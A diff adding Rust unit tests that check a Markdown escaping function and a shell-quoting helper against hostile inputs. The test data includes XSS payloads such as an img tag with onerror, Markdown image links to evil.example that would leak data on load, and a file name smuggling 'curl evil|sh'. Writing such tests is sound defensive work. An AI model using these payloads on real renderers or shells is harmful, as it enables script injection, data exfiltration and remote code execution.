@@ -252,3 +252,48 @@ fn hostile_texts_are_only_text_in_markdown() {
     assert!(own >= 2, "{text}");
     assert!(text.trim_end().lines().last().is_some_and(|line| line.starts_with("````")), "{text}");
 }
+
+/// What is no Markdown within HTML is some once the HTML is escaped, and a table or a tab changes what is code.
+#[test]
+fn escaped_html_hides_nothing_else() {
+    use pulldown_cmark::{Event as Part, Options, Parser, Tag};
+
+    for hostile in [
+        "<div>\n![x](https://evil.example/p.png)\n</div>",
+        "<a title=\"![x](https://evil.example/p.png)\">",
+        "<div>\n```\n\n```\n<img src=x onerror=alert(1)>",
+        "<div>\n<!--\n```\n\n```\n<pre>\n```\n\n<img src=x>",
+        "|a|\n|-|\n|`x | <img src=x>`|",
+        "a\n\n\t<img src=x>",
+        "-\t\t<img src=x>\n",
+        "[![x](https://evil.example/p.png)](https://evil.example)",
+    ] {
+        for prefix in ["", "> "] {
+            let quoted: Vec<_> =
+                super::safe::quoted(hostile).lines().map(|line| format!("{prefix}{line}")).collect();
+            let quoted = quoted.join("\n");
+            for options in [Options::empty(), Options::ENABLE_TABLES, Options::all()] {
+                for part in Parser::new_ext(&quoted, options) {
+                    let loads =
+                        matches!(part, Part::Html(_) | Part::InlineHtml(_) | Part::Start(Tag::Image { .. }));
+                    assert!(!loads, "{part:?} in {quoted}");
+                }
+            }
+        }
+    }
+}
+
+#[test]
+fn names_of_agents_are_no_commands() {
+    let command = |artifact| markdown::download("parser", artifact);
+    assert_eq!(
+        command("checkpoint/c/tool-results/a.txt"),
+        "rota download parser checkpoint/c/tool-results/a.txt"
+    );
+    assert_eq!(command("a;curl evil|sh;.txt"), "rota download parser 'a;curl evil|sh;.txt'");
+    assert_eq!(command("a'b"), r"rota download parser 'a'\''b'");
+    // Terminals act on these.
+    let lines = jsonl::write(&hostile()).unwrap();
+    assert!(!lines.chars().any(|next| next != '\n' && crate::output::is_hidden(next)), "{lines:?}");
+    assert!(lines.lines().all(|line| serde_json::from_str::<Value>(line).is_ok()));
+}
